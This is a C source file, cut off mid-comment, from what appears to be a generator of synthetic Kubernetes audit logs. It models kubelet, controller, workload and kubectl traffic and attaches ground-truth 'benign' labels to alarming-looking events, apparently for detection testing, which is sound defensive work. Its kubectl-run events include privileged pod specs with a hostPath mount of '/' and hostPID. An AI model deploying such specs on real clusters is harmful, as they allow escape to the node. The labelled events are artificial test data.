/*
 * gen_audit_acts.c - the traffic of the audit generator: what each kind of
 * client asks the API server, with roughly the proportions a busy cluster
 * shows (kubelet leases and status, controllers, workloads' informers, a few
 * people with kubectl), plus the exec sessions and the injectable events the
 * sample script uses.
 */
#include "data/gen_audit_int.h"

#include <stdlib.h>
#include <string.h>

#define POD_ANNOT ",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\""

static const actor *node(gen_ctx *c, world *w)
{
    return &w->users[w->first_node + gen_below(&c->rng, N_NODES)];
}

static const app *rand_app(gen_ctx *c, world *w)
{
    return &w->apps[gen_below(&c->rng, (uint32_t)w->n_apps)];
}

/* Copies a pod name of `a` into w->tmp and returns it (valid until the next
 * use of w->tmp). */
static const char *pod_of(world *w, const app *a, int replica)
{
    cq_strbuf_reset(&w->tmp);
    audit_put_pod_name(&w->tmp, a, replica);
    return w->tmp.buf;
}

static void node_lease(gen_ctx *c, world *w, int64_t t)
{
    const actor *u = node(c, w);
    audit_ev e = {.u = u, .received = t, .verb = "update", .resource = "leases",
                  .ns = "kube-node-lease", .name = u->name + 12,
                  .group = "coordination.k8s.io", .version = "v1", .code = 200};
    audit_simple(c, w, &e, 1, "?timeout=10s");
}

static void cp_lease(gen_ctx *c, world *w, int64_t t)
{
    int sched = gen_chance(&c->rng, 0.5);
    const actor *u = &w->users[w->first_cp + (sched ? 1 : 0)];
    const char *ua = sched
        ? "kube-scheduler/" K8S_VER " " K8S_UA_TAIL "/leader-election"
        : "kube-controller-manager/" K8S_VER " " K8S_UA_TAIL "/leader-election";
    int get = gen_chance(&c->rng, 0.3);
    audit_ev e = {.u = u, .ua = ua, .received = t, .verb = get ? "get" : "update",
                  .resource = "leases", .ns = "kube-system",
                  .name = sched ? "kube-scheduler" : "kube-controller-manager",
                  .group = "coordination.k8s.io", .version = "v1", .code = 200};
    audit_simple(c, w, &e, 1, "?timeout=5s");
}

static void node_status(gen_ctx *c, world *w, int64_t t)
{
    const actor *u = node(c, w);
    audit_ev e = {.u = u, .received = t, .verb = "patch", .resource = "nodes",
                  .name = u->name + 12, .sub = "status", .version = "v1",
                  .code = 200};
    audit_simple(c, w, &e, 1, "?timeout=10s");
}

static void kubelet(gen_ctx *c, world *w, int64_t t)
{
    const actor *u = node(c, w);
    const app *a = rand_app(c, w);
    int r = (int)gen_below(&c->rng, (uint32_t)a->replicas);
    audit_ev e = {.u = u, .received = t, .resource = "pods", .ns = a->ns,
                  .version = "v1", .code = 200};
    static const double wt[] = {30, 20, 15, 20, 10, 5};
    switch (gen_pick(&c->rng, wt, 6)) {
    case 0:
        e.verb = "get";
        e.name = pod_of(w, a, r);
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 1:
        e.resource = "configmaps";
        audit_watch(c, w, &e, "metadata.name=kube-root-ca.crt");
        break;
    case 2:
        e.verb = "create";
        e.resource = "serviceaccounts";
        e.name = a->name;
        e.sub = "token";
        e.code = 201;
        /* A TokenRequest for the pod's projected token: not a new account. */
        e.truth_id = "benign";
        e.truth_pre = "kubelet TokenRequest (serviceaccounts/token, ";
        e.truth_post = ")";
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 3:
        e.verb = "patch";
        e.name = pod_of(w, a, r);
        e.sub = "status";
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 4:
        e.verb = "get";
        e.resource = "nodes";
        e.ns = NULL;
        e.name = u->name + 12;
        audit_simple(c, w, &e, 1, "?resourceVersion=0&timeout=10s");
        break;
    default:
        e.resource = "secrets";
        e.verb = "get";
        cq_strbuf_reset(&w->tmp);
        gen_put(&w->tmp, a->name);
        gen_put(&w->tmp, "-env");
        e.name = w->tmp.buf;
        audit_simple(c, w, &e, 1, NULL);
        break;
    }
}

static void workload(gen_ctx *c, world *w, int64_t t)
{
    size_t ai = gen_below(&c->rng, (uint32_t)w->n_apps);
    const app *a = &w->apps[ai];
    audit_ev e = {.u = &w->users[w->first_app + ai], .received = t,
                  .ns = a->ns, .version = "v1", .code = 200, .pod_extra = 1,
                  .replica = (int)gen_below(&c->rng, (uint32_t)a->replicas)};
    int infra = ai >= N_TEAMS * N_COMPS;
    static const double wt[] = {30, 20, 20, 12, 12, 0.6, 5};
    cq_strbuf_reset(&w->tmp);
    gen_put(&w->tmp, a->name);
    switch (gen_pick(&c->rng, wt, 7)) {
    case 0:
        e.verb = "get";
        e.resource = "configmaps";
        gen_put(&w->tmp, "-config");
        e.name = w->tmp.buf;
        if (gen_chance(&c->rng, 0.03)) {
            e.code = 404;
            e.fail_reason = "NotFound";
        }
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 1:
        e.verb = "list";
        e.resource = infra ? "pods" : "endpoints";
        if (infra)
            e.ns = NULL;
        audit_simple(c, w, &e, 0, "?limit=500&resourceVersion=0");
        break;
    case 2:
        e.resource = infra ? "endpointslices" : "pods";
        e.group = infra ? "discovery.k8s.io" : NULL;
        if (infra)
            e.ns = NULL;
        audit_watch(c, w, &e, NULL);
        break;
    case 3:
        e.verb = "get";
        e.resource = "secrets";
        gen_put(&w->tmp, gen_chance(&c->rng, 0.5) ? "-tls" : "-db-credentials");
        e.name = w->tmp.buf;
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 4:
        e.verb = gen_chance(&c->rng, 0.8) ? "update" : "get";
        e.resource = "leases";
        e.group = "coordination.k8s.io";
        gen_put(&w->tmp, "-leader");
        e.name = w->tmp.buf;
        if (gen_chance(&c->rng, 0.02)) {
            e.code = 409;
            e.fail_reason = "Conflict";
        }
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 5:
        /* A workload probing for more than it may: the usual 403. */
        e.verb = "list";
        e.resource = "secrets";
        e.ns = NULL;
        e.code = 403;
        e.fail_reason = "Forbidden";
        audit_simple(c, w, &e, 0, "?limit=500");
        break;
    default:
        e.verb = "list";
        e.resource = "services";
        audit_simple(c, w, &e, 0, "?limit=500&resourceVersion=0");
        break;
    }
}

static void controller(gen_ctx *c, world *w, int64_t t)
{
    static const struct {
        const char *ctrl, *res, *group, *sub;
    } jobs[] = {
        {"endpointslice-controller", "endpointslices", "discovery.k8s.io", NULL},
        {"endpoint-controller", "endpoints", NULL, NULL},
        {"deployment-controller", "deployments", "apps", "status"},
        {"replicaset-controller", "replicasets", "apps", "status"},
        {"daemon-set-controller", "daemonsets", "apps", "status"},
        {"horizontal-pod-autoscaler", "horizontalpodautoscalers", "autoscaling", "status"},
        {"cronjob-controller", "cronjobs", "batch", "status"},
        {"job-controller", "jobs", "batch", "status"},
        {"disruption-controller", "poddisruptionbudgets", "policy", "status"},
        {"resourcequota-controller", "resourcequotas", NULL, "status"},
        {"root-ca-cert-publisher", "configmaps", NULL, NULL},
        {"service-account-controller", "serviceaccounts", NULL, NULL},
        {"node-controller", "nodes", NULL, NULL},
        {"generic-garbage-collector", "replicasets", "apps", NULL},
        {"namespace-controller", "namespaces", NULL, NULL},
        {"attachdetach-controller", "volumeattachments", "storage.k8s.io", NULL},
        {"persistent-volume-binder", "persistentvolumeclaims", NULL, NULL},
        {"statefulset-controller", "statefulsets", "apps", "status"},
        {"pod-garbage-collector", "pods", NULL, NULL},
        {"ttl-after-finished-controller", "jobs", "batch", NULL},
        {"certificate-controller", "certificatesigningrequests", "certificates.k8s.io", NULL},
        {"clusterrole-aggregation-controller", "clusterroles", "rbac.authorization.k8s.io", NULL},
        {"replication-controller", "replicationcontrollers", NULL, NULL},
        {"endpointslicemirroring-controller", "endpoints", NULL, NULL},
        {"ephemeral-volume-controller", "pods", NULL, NULL},
    };
    size_t k = gen_below(&c->rng, sizeof jobs / sizeof *jobs);
    size_t ui = w->first_ctrl;
    while (strcmp(w->users[ui].name + 34, jobs[k].ctrl))
        ui++;
    const app *a = rand_app(c, w);
    int cluster = !strcmp(jobs[k].res, "nodes") || !strcmp(jobs[k].res, "namespaces") ||
                  !strcmp(jobs[k].res, "clusterroles") ||
                  !strcmp(jobs[k].res, "certificatesigningrequests") ||
                  !strcmp(jobs[k].res, "volumeattachments");
    audit_ev e = {.u = &w->users[ui], .received = t, .resource = jobs[k].res,
                  .group = jobs[k].group, .version = "v1", .code = 200,
                  .ns = cluster ? NULL : a->ns};
    if (!strcmp(jobs[k].res, "horizontalpodautoscalers"))
        e.version = "v2";
    double x = gen_unit(&c->rng);
    if (x < 0.5 && !cluster) {
        e.verb = "update";
        e.sub = jobs[k].sub;
        cq_strbuf_reset(&w->tmp);
        gen_put(&w->tmp, a->name);
        if (!strcmp(jobs[k].res, "endpointslices")) {
            gen_putc(&w->tmp, '-');
            gen_put_k8s_suffix_of(&w->tmp, gen_hash(a->name, 9), 5);
        } else if (!strcmp(jobs[k].res, "replicasets")) {
            gen_putc(&w->tmp, '-');
            gen_put(&w->tmp, a->rs_hash);
        }
        e.name = w->tmp.buf;
        audit_simple(c, w, &e, 1, NULL);
    } else if (x < 0.75) {
        e.verb = "list";
        e.ns = NULL;
        audit_simple(c, w, &e, 0, "?limit=500&resourceVersion=0");
    } else {
        e.ns = NULL;
        audit_watch(c, w, &e, NULL);
    }
}

static void event_create(gen_ctx *c, world *w, int64_t t)
{
    const app *a = rand_app(c, w);
    double x = gen_unit(&c->rng);
    const actor *u = x < 0.7 ? node(c, w)
                   : x < 0.85 ? &w->users[w->first_cp + 1]
                              : &w->users[w->first_ctrl + 18];
    cq_strbuf_reset(&w->tmp);
    audit_put_pod_name(&w->tmp, a, (int)gen_below(&c->rng, (uint32_t)a->replicas));
    gen_putc(&w->tmp, '.');
    gen_put_hex(&w->tmp, &c->rng, 16);
    int patch = gen_chance(&c->rng, 0.25);
    audit_ev e = {.u = u, .received = t, .verb = patch ? "patch" : "create",
                  .resource = "events", .ns = a->ns, .name = w->tmp.buf,
                  .version = "v1", .code = patch ? 200 : 201};
    audit_simple(c, w, &e, patch, NULL);
}

/* The pod template a ReplicaSet stamps out (before admission adds the
 * service-account volume). */
static void rs_pod_object(gen_ctx *c, world *w, const app *a)
{
    cq_strbuf *o = &w->obj;
    cq_strbuf_reset(o);
    gen_put(o, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"generateName\":\"");
    gen_put(o, a->name);
    gen_putc(o, '-');
    gen_put(o, a->rs_hash);
    gen_put(o, "-\",\"creationTimestamp\":null,\"labels\":{\"app\":\"");
    gen_put(o, a->name);
    gen_put(o, "\",\"pod-template-hash\":\"");
    gen_put(o, a->rs_hash);
    gen_put(o, "\"},\"ownerReferences\":[{\"apiVersion\":\"apps/v1\",\"kind\":\"ReplicaSet\",\"name\":\"");
    gen_put(o, a->name);
    gen_putc(o, '-');
    gen_put(o, a->rs_hash);
    gen_put(o, "\",\"uid\":\"");
    gen_put_uuid_of(o, gen_hash(a->name, 11));
    gen_put(o, "\",\"controller\":true,\"blockOwnerDeletion\":true}]},\"spec\":{\"containers\":[{\"name\":\"");
    gen_put(o, a->container);
    gen_put(o, "\",\"image\":\"");
    gen_put(o, a->image);
    gen_put(o, "\",\"ports\":[{\"containerPort\":8080,\"protocol\":\"TCP\"}],"
               "\"resources\":{\"limits\":{\"memory\":\"512Mi\"},\"requests\":"
               "{\"cpu\":\"100m\",\"memory\":\"256Mi\"}},\"terminationMessagePath\":"
               "\"/dev/termination-log\",\"terminationMessagePolicy\":\"File\","
               "\"imagePullPolicy\":\"IfNotPresent\"}],\"restartPolicy\":\"Always\","
               "\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\","
               "\"serviceAccountName\":\"");
    gen_put(o, a->name);
    gen_put(o, "\",\"serviceAccount\":\"");
    gen_put(o, a->name);
    gen_put(o, "\",\"securityContext\":{},\"schedulerName\":\"default-scheduler\"},\"status\":{}}");
    (void)c;
}

/* The daemon-set-controller's node agents: privileged, host network and
 * hostPath mounts by design (kube-proxy), or a read-only hostPath of the
 * node's logs (fluent-bit).  A system identity doing what looks alarming. */
static void ds_pod(gen_ctx *c, world *w, int64_t t)
{
    int proxy = gen_chance(&c->rng, 0.5);
    const char *ns = proxy ? "kube-system" : "logging";
    const char *ds = proxy ? "kube-proxy" : "fluent-bit";
    cq_strbuf *o = &w->obj;
    cq_strbuf_reset(o);
    gen_put(o, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"generateName\":\"");
    gen_put(o, ds);
    gen_put(o, "-\",\"creationTimestamp\":null,\"labels\":{\"k8s-app\":\"");
    gen_put(o, ds);
    gen_put(o, "\",\"pod-template-generation\":\"1\"},\"ownerReferences\":[{\"apiVersion\":"
               "\"apps/v1\",\"kind\":\"DaemonSet\",\"name\":\"");
    gen_put(o, ds);
    gen_put(o, "\",\"uid\":\"");
    gen_put_uuid_of(o, gen_hash(ds, 12));
    gen_put(o, "\",\"controller\":true,\"blockOwnerDeletion\":true}]},\"spec\":{\"volumes\":[");
    if (proxy)
        gen_put(o, "{\"name\":\"xtables-lock\",\"hostPath\":{\"path\":\"/run/xtables.lock\","
                   "\"type\":\"FileOrCreate\"}},{\"name\":\"lib-modules\",\"hostPath\":"
                   "{\"path\":\"/lib/modules\",\"type\":\"\"}}],\"containers\":[{\"name\":"
                   "\"kube-proxy\",\"image\":\"registry.k8s.io/kube-proxy:" K8S_VER "\","
                   "\"command\":[\"/usr/local/bin/kube-proxy\",\"--config=/var/lib/kube-proxy/"
                   "config.conf\",\"--hostname-override=$(NODE_NAME)\"],\"resources\":{},"
                   "\"volumeMounts\":[{\"name\":\"xtables-lock\",\"mountPath\":\"/run/xtables.lock\"},"
                   "{\"name\":\"lib-modules\",\"readOnly\":true,\"mountPath\":\"/lib/modules\"}],"
                   "\"securityContext\":{\"privileged\":true}}],\"hostNetwork\":true,"
                   "\"serviceAccountName\":\"kube-proxy\",\"priorityClassName\":"
                   "\"system-node-critical\"");
    else
        gen_put(o, "{\"name\":\"varlog\",\"hostPath\":{\"path\":\"/var/log\",\"type\":\"\"}}],"
                   "\"containers\":[{\"name\":\"fluent-bit\",\"image\":"
                   "\"cr.fluentbit.io/fluent/fluent-bit:3.0.2\",\"resources\":{},"
                   "\"volumeMounts\":[{\"name\":\"varlog\",\"readOnly\":true,\"mountPath\":"
                   "\"/var/log\"}]}],\"serviceAccountName\":\"fluent-bit\"");
    gen_put(o, ",\"tolerations\":[{\"operator\":\"Exists\"}]},\"status\":{}}");
    audit_ev e = {.u = &w->users[w->first_ctrl + 4], .received = t, .level = "Request",
                  .verb = "create", .resource = "pods", .ns = ns, .version = "v1",
                  .code = 201, .annot_extra = POD_ANNOT, .truth_id = "benign",
                  .truth_pre = proxy ? "daemon-set-controller creates a kube-proxy pod (privileged, hostPath, "
                                     : "daemon-set-controller creates a fluent-bit pod (hostPath /var/log, ",
                  .truth_post = ")"};
    audit_simple(c, w, &e, 0, NULL);
}

static void pod_churn(gen_ctx *c, world *w, int64_t t)
{
    const app *a = rand_app(c, w);
    const actor *rsc = &w->users[w->first_ctrl + 18];   /* replicaset-controller */
    if (gen_chance(&c->rng, 0.45)) {
        audit_ev e = {.u = rsc, .received = t, .verb = "delete", .resource = "pods",
                      .ns = a->ns, .version = "v1", .code = 200,
                      .name = pod_of(w, a, (int)gen_below(&c->rng, (uint32_t)a->replicas))};
        audit_simple(c, w, &e, 1, NULL);
        return;
    }
    if (gen_chance(&c->rng, 0.08)) {
        ds_pod(c, w, t);
        return;
    }
    rs_pod_object(c, w, a);
    audit_ev e = {.u = rsc, .received = t, .level = "Request", .verb = "create",
                  .resource = "pods", .ns = a->ns, .version = "v1", .code = 201,
                  .annot_extra = POD_ANNOT};
    audit_simple(c, w, &e, 0, NULL);
    /* The scheduler binds the new pod a few milliseconds later. */
    char name[96];
    cq_strbuf_reset(&w->tmp);
    gen_put(&w->tmp, a->name);
    gen_putc(&w->tmp, '-');
    gen_put(&w->tmp, a->rs_hash);
    gen_putc(&w->tmp, '-');
    gen_put_k8s_suffix_of(&w->tmp, gen_rand(&c->rng), 5);
    memcpy(name, w->tmp.buf, w->tmp.len + 1);
    audit_ev b = {.u = &w->users[w->first_cp + 1], .received = t + audit_latency(c, 6000),
                  .verb = "create", .resource = "pods", .ns = a->ns, .name = name,
                  .sub = "binding", .version = "v1", .code = 201,
                  .ua = "kube-scheduler/" K8S_VER " " K8S_UA_TAIL "/scheduler"};
    audit_simple(c, w, &b, 1, NULL);
}

static void system_clients(gen_ctx *c, world *w, int64_t t)
{
    double x = gen_unit(&c->rng);
    if (x < 0.5) {
        audit_ev e = {.u = &w->users[w->first_cp + 2], .received = t, .version = "v1",
                      .resource = gen_chance(&c->rng, 0.5) ? "endpointslices" : "services",
                      .code = 200};
        if (e.resource[0] == 'e')
            e.group = "discovery.k8s.io";
        audit_watch(c, w, &e, NULL);
    } else {
        audit_ev e = {.u = &w->users[w->first_cp + 3], .received = t, .version = "v1",
                      .resource = "leases", .group = "coordination.k8s.io",
                      .ns = "kube-system", .verb = "update", .code = 200,
                      .name = "apiserver-rb4lf2x7qwzcmw5jcxq9gtbl2e"};
        audit_simple(c, w, &e, 1, NULL);
    }
}

/* ---- people */

static const app *human_app(gen_ctx *c, world *w, const actor *u)
{
    if (u->team < 0)
        return rand_app(c, w);
    return &w->apps[(size_t)u->team * N_COMPS + gen_below(&c->rng, N_COMPS)];
}

/* The minor version of the kubectl in a user agent "kubectl/v1.NN.P ...". */
static int minor_of(const actor *u)
{
    return strncmp(u->ua, "kubectl/v1.", 11) ? 0 : atoi(u->ua + 11);
}

/* How a `kubectl run` ends: created, a server-side dry run, or refused by
 * PodSecurity admission (403 after the body was read), by RBAC (403 before
 * it was: no requestObject), as invalid (422) or as existing (409). */
static void run_outcome(world *w, audit_ev *e, int outcome, const char *name)
{
    cq_strbuf *m = &w->tmp;
    cq_strbuf_reset(m);
    switch (outcome) {
    case GEN_RUN_PSA_DENIED:
        e->code = 403;
        e->fail_reason = "Forbidden";
        gen_put(m, "pods \\\"");
        gen_put(m, name);
        gen_put(m, "\\\" is forbidden: violates PodSecurity \\\"baseline:latest\\\": "
                   "privileged (container \\\"");
        gen_put(m, name);
        gen_put(m, "\\\" must not set securityContext.privileged=true)");
        e->annot_extra = ",\"pod-security.kubernetes.io/enforce-policy\":\"baseline:latest\"";
        break;
    case GEN_RUN_RBAC_DENIED:
        e->code = 403;
        e->fail_reason = "Forbidden";
        cq_strbuf_reset(&w->obj);
        e->annot_extra = NULL;
        return;
    case GEN_RUN_INVALID:
        e->code = 422;
        e->fail_reason = "Invalid";
        gen_put(m, "Pod \\\"");
        gen_put(m, name);
        gen_put(m, "\\\" is invalid: spec.containers[0].resources.requests: Invalid value: "
                   "\\\"2\\\": must be less than or equal to cpu limit of 1");
        break;
    case GEN_RUN_EXISTS:
        e->code = 409;
        e->fail_reason = "AlreadyExists";
        gen_put(m, "pods \\\"");
        gen_put(m, name);
        gen_put(m, "\\\" already exists");
        break;
    default:
        return;
    }
    e->fail_msg = m->buf;
}

/* kubectl run NAME --image=IMG [--privileged] [hostPath / via overrides],
 * ending as `outcome` (RUN_*). */
static void human_run(gen_ctx *c, world *w, const actor *u, int64_t t,
                      const char *ns, const char *name, const char *image,
                      int privileged, int hostpath, int outcome)
{
    cq_strbuf *o = &w->obj;
    cq_strbuf_reset(o);
    gen_put(o, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"");
    gen_put(o, name);
    gen_put(o, "\",\"creationTimestamp\":null,\"labels\":{\"run\":\"");
    gen_put(o, name);
    gen_put(o, "\"}},\"spec\":{");
    if (hostpath)
        gen_put(o, "\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}],");
    gen_put(o, "\"containers\":[{\"name\":\"");
    gen_put(o, name);
    gen_put(o, "\",\"image\":\"");
    gen_put(o, image);
    gen_put(o, outcome == GEN_RUN_INVALID
                   ? "\",\"resources\":{\"limits\":{\"cpu\":\"1\"},\"requests\":{\"cpu\":\"2\"}}"
                   : "\",\"resources\":{}");
    if (hostpath)
        gen_put(o, ",\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"}]");
    if (privileged)
        gen_put(o, ",\"securityContext\":{\"privileged\":true}");
    gen_put(o, "}],\"restartPolicy\":\"Always\",\"dnsPolicy\":\"ClusterFirst\"");
    if (hostpath)
        gen_put(o, ",\"hostPID\":true");
    gen_put(o, "},\"status\":{}}");
    audit_ev e = {.u = u, .received = t, .level = "Request", .verb = "create",
                  .resource = "pods", .ns = ns, .name = name, .version = "v1",
                  .code = 201, .annot_extra = POD_ANNOT};
    run_outcome(w, &e, outcome, name);
    static const char *const what[] = {
        NULL, "kubectl run --dry-run=server (dryRun=All, ",
        "kubectl run refused by PodSecurity (403 Forbidden, ",
        "kubectl run refused by RBAC (403 Forbidden, ",
        "kubectl run rejected as invalid (422 Invalid, ",
        "kubectl run of an existing pod (409 AlreadyExists, "};
    if (outcome > GEN_RUN_OK && outcome <= GEN_RUN_EXISTS) {
        e.truth_id = "benign";
        e.truth_pre = what[outcome];
        e.truth_post = privileged ? (hostpath ? ", privileged, hostPath /)" : ", privileged)")
                                  : hostpath ? ", hostPath /)" : ")";
    }
    audit_simple(c, w, &e, 0, outcome == GEN_RUN_DRY ? "?dryRun=All&fieldManager=kubectl-run"
                                                 : "?fieldManager=kubectl-run");
}

/* A team's Deployment as its manifest says, into b (compact JSON). */
static void deployment_manifest(cq_strbuf *b, const app *a, const char *last_applied)
{
    gen_put(b, "{\"apiVersion\":\"apps/v1\",\"kind\":\"Deployment\",\"metadata\":{");
    if (last_applied) {
        gen_put(b, "\"annotations\":{\"kubectl.kubernetes.io/last-applied-configuration\":");
        gen_put_jstr(b, last_applied);
        gen_put(b, "},");
    }
    gen_put(b, "\"name\":\"");
    gen_put(b, a->name);
    gen_put(b, "\",\"namespace\":\"");
    gen_put(b, a->ns);
    gen_put(b, "\"},\"spec\":{\"replicas\":");
    gen_put_u64(b, (uint64_t)a->replicas);
    gen_put(b, ",\"selector\":{\"matchLabels\":{\"app\":\"");
    gen_put(b, a->name);
    gen_put(b, "\"}},\"template\":{\"metadata\":{\"labels\":{\"app\":\"");
    gen_put(b, a->name);
    gen_put(b, "\"}},\"spec\":{\"containers\":[{\"image\":\"");
    gen_put(b, a->image);
    gen_put(b, "\",\"name\":\"");
    gen_put(b, a->container);
    gen_put(b, "\"}]}}}}");
}

/* kubectl apply -f of a Deployment.  Client-side: a GET, then a
 * strategic-merge PATCH (or, for a new object, a POST of the whole object)
 * carrying the kubectl.kubernetes.io/last-applied-configuration annotation,
 * fieldManager=kubectl-client-side-apply.  Server-side (--server-side): one
 * apply PATCH with fieldManager=kubectl.  Deployment writes are logged at
 * Request level. */
static void human_apply(gen_ctx *c, world *w, const actor *u, int64_t t,
                        const app *a, int how)
{
    audit_ev e = {.u = u, .received = t, .verb = "get", .resource = "deployments",
                  .group = "apps", .ns = a->ns, .name = a->name, .version = "v1",
                  .code = how == GEN_APPLY_CSA_CREATE ? 404 : 200,
                  .fail_reason = how == GEN_APPLY_CSA_CREATE ? "NotFound" : NULL};
    if (how != GEN_APPLY_SSA) {
        audit_simple(c, w, &e, 1, NULL);
        e.received += audit_latency(c, 20000);
        e.staged = 0;
        e.fail_reason = NULL;
    }
    cq_strbuf manifest = CQ_STRBUF_INIT;
    deployment_manifest(&manifest, a, NULL);
    gen_putc(&manifest, '\n');      /* kubectl stores it with a newline */
    cq_strbuf_reset(&w->obj);
    e.level = "Request";
    if (how == GEN_APPLY_CSA_PATCH) {
        gen_put(&w->obj, "{\"metadata\":{\"annotations\":{\"kubectl.kubernetes.io/"
                         "last-applied-configuration\":");
        gen_put_jstr(&w->obj, manifest.buf);
        gen_put(&w->obj, "}},\"spec\":{\"template\":{\"spec\":{\"$setElementOrder/containers\":"
                         "[{\"name\":\"");
        gen_put(&w->obj, a->container);
        gen_put(&w->obj, "\"}],\"containers\":[{\"image\":\"");
        gen_put(&w->obj, a->image);
        gen_put(&w->obj, "\",\"name\":\"");
        gen_put(&w->obj, a->container);
        gen_put(&w->obj, "\"}]}}}}");
    } else {
        deployment_manifest(&w->obj, a, how == GEN_APPLY_CSA_CREATE ? manifest.buf : NULL);
    }
    cq_strbuf_free(&manifest);
    e.code = how == GEN_APPLY_CSA_CREATE ? 201 : 200;
    e.verb = how == GEN_APPLY_CSA_CREATE ? "create" : "patch";
    static const char *const what[] = {"kubectl apply (client-side patch, ",
                                       "kubectl apply (client-side create, ",
                                       "kubectl apply (server-side, "};
    e.truth_id = "benign";
    e.truth_pre = what[how];
    e.truth_post = ")";
    audit_simple(c, w, &e, how != GEN_APPLY_CSA_CREATE,
                 how == GEN_APPLY_SSA ? "?fieldManager=kubectl&fieldValidation=Strict&force=false"
                 : "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
}

/* kubectl rollout restart: a strategic-merge patch of the pod template. */
static void human_restart(gen_ctx *c, world *w, const actor *u, int64_t t, const app *a)
{
    cq_strbuf_reset(&w->obj);
    gen_put(&w->obj, "{\"spec\":{\"template\":{\"metadata\":{\"annotations\":"
                     "{\"kubectl.kubernetes.io/restartedAt\":\"");
    gen_put_time(&w->obj, t - 40 * GEN_NS_PER_MS, 0);
    gen_put(&w->obj, "\"}}}}}");
    audit_ev e = {.u = u, .received = t, .level = "Request", .verb = "patch",
                  .resource = "deployments", .group = "apps", .ns = a->ns,
                  .name = a->name, .version = "v1", .code = 200};
    audit_simple(c, w, &e, 1, "?fieldManager=kubectl-rollout");
}

static void human_special(gen_ctx *c, world *w, const actor *u, int64_t t)
{
    const app *a = human_app(c, w, u);
    double x = gen_unit(&c->rng);
    if (x < 0.35) {
        audit_ev e = {.u = u, .received = t, .resource = "pods", .ns = a->ns,
                      .name = pod_of(w, a, 0), .sub = "portforward", .version = "v1",
                      .code = 101, .verb = minor_of(u) >= 31 ? "get" : "create"};
        e.started = t + audit_latency(c, 20000);
        e.staged = e.started + gen_exp_ns(&c->rng, 600 * GEN_NS_PER_SEC);
        audit_simple(c, w, &e, 1, NULL);
    } else if (x < 0.55) {
        audit_ev e = {.u = u, .received = t, .resource = "pods", .ns = a->ns,
                      .name = pod_of(w, a, 0), .sub = "attach", .version = "v1",
                      .code = 101, .verb = minor_of(u) >= 30 ? "get" : "create"};
        e.started = t + audit_latency(c, 20000);
        e.staged = e.started + gen_exp_ns(&c->rng, 300 * GEN_NS_PER_SEC);
        cq_strbuf_reset(&w->obj);
        gen_put(&w->obj, "?container=");
        gen_put(&w->obj, a->container);
        gen_put(&w->obj, "&stdin=true&stdout=true&tty=true");
        char q[64];
        memcpy(q, w->obj.buf, w->obj.len + 1 < sizeof q ? w->obj.len + 1 : sizeof q);
        q[sizeof q - 1] = '\0';
        cq_strbuf_reset(&w->obj);
        audit_simple(c, w, &e, 1, q);
    } else if (x < 0.9) {
        static const char *const images[] = {"busybox:1.36", "nicolaka/netshoot:v0.12",
                                             "alpine:3.19", "ubuntu:22.04"};
        char name[32] = "debug-";
        cq_strbuf b = CQ_STRBUF_INIT;
        gen_put_k8s_suffix_of(&b, gen_rand(&c->rng), 5);
        memcpy(name + 6, b.buf, 6);
        cq_strbuf_free(&b);
        double y = gen_unit(&c->rng);
        const char *image = images[gen_below(&c->rng, 4)];
        if (x < 0.77) {
            human_run(c, w, u, t, a->ns, name, image, y < 0.15, y >= 0.1 && y < 0.2,
                      GEN_RUN_OK);
        } else if (x < 0.81) {    /* trying a privileged pod out first */
            human_run(c, w, u, t, a->ns, name, image, y < 0.7, y >= 0.5, GEN_RUN_DRY);
        } else if (x < 0.84) {
            human_run(c, w, u, t, a->ns, name, image, 1, 0, GEN_RUN_PSA_DENIED);
        } else if (x < 0.86) {
            human_run(c, w, u, t, u->team < 0 ? a->ns : "kube-system", name, image,
                      y < 0.5, 0, u->team < 0 ? GEN_RUN_EXISTS : GEN_RUN_RBAC_DENIED);
        } else {
            human_run(c, w, u, t, a->ns, name, image, 0, 0,
                      y < 0.5 ? GEN_RUN_INVALID : GEN_RUN_EXISTS);
        }
    } else {
        human_apply(c, w, u, t, a, GEN_APPLY_CSA_CREATE);
    }
}

static void human(gen_ctx *c, world *w, int64_t t)
{
    const actor *u = &w->users[w->first_human + gen_below(&c->rng, N_HUMANS)];
    const app *a = human_app(c, w, u);
    audit_ev e = {.u = u, .received = t, .ns = a->ns, .version = "v1",
                  .resource = "pods", .verb = "get", .code = 200};
    static const double wt[] = {25, 12, 6, 12, 10, 5, 5, 2, 3, 3, 2, 3, 1, 3, 1.2};
    char q[96];
    switch (gen_pick(&c->rng, wt, sizeof wt / sizeof *wt)) {
    case 0:
        e.verb = "list";
        audit_simple(c, w, &e, 0, "?limit=500");
        break;
    case 1:
        e.name = pod_of(w, a, (int)gen_below(&c->rng, (uint32_t)a->replicas));
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 2:     /* kubectl describe pod: the pod, then its events */
        e.name = pod_of(w, a, 0);
        audit_simple(c, w, &e, 1, NULL);
        e.received = t + audit_latency(c, 30000);
        e.staged = 0;
        e.verb = "list";
        e.resource = "events";
        cq_strbuf_reset(&w->obj);
        gen_put(&w->obj, "?fieldSelector=");
        gen_put(&w->obj, "involvedObject.name%3D");
        audit_put_pod_name(&w->obj, a, 0);
        gen_put(&w->obj, "%2CinvolvedObject.namespace%3D");
        gen_put(&w->obj, a->ns);
        gen_put(&w->obj, "&limit=500");
        memcpy(q, w->obj.buf, w->obj.len + 1 < sizeof q ? w->obj.len + 1 : sizeof q);
        q[sizeof q - 1] = '\0';
        cq_strbuf_reset(&w->obj);
        e.name = NULL;
        audit_simple(c, w, &e, 0, q);
        break;
    case 3:     /* kubectl logs */
        e.name = pod_of(w, a, 0);
        e.sub = "log";
        cq_strbuf_reset(&w->obj);
        gen_put(&w->obj, "?container=");
        gen_put(&w->obj, a->container);
        /* pods/log is long-running: its stream starts, then ends when the
